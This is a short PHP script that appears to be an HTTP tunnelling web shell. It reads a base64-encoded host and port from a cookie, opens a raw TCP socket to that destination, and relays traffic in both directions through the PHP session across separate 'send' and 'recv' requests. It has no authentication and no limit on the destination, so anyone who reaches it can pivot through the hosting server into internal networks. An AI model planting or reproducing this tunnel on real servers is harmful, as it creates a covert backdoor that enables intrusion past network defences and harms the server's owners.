<?php
// the connection stays open in one request; the others pass data through the session
session_start();
$op = isset($_GET['op']) ? $_GET['op'] : '';
if ($op === 'open') {
    list($h, $p) = explode(':', base64_decode($_COOKIE['dst']));
    $c = stream_socket_client("tcp://$h:$p", $en, $es, 5);
    $_SESSION['up'] = '';
    $_SESSION['down'] = '';
    session_write_close();
    ignore_user_abort(true);
    while ($c) {
        session_start();
        $out = $_SESSION['up'];
        $_SESSION['up'] = '';
        session_write_close();
        if ($out !== '') fwrite($c, $out);
        $in = fread($c, 8192);
        if ($in !== '' && $in !== false) {
            session_start();
            $_SESSION['down'] .= $in;
            session_write_close();
        }
    }
} elseif ($op === 'send') {
    $_SESSION['up'] .= file_get_contents('php://input');
} elseif ($op === 'recv') {
    echo $_SESSION['down'];
    $_SESSION['down'] = '';
}
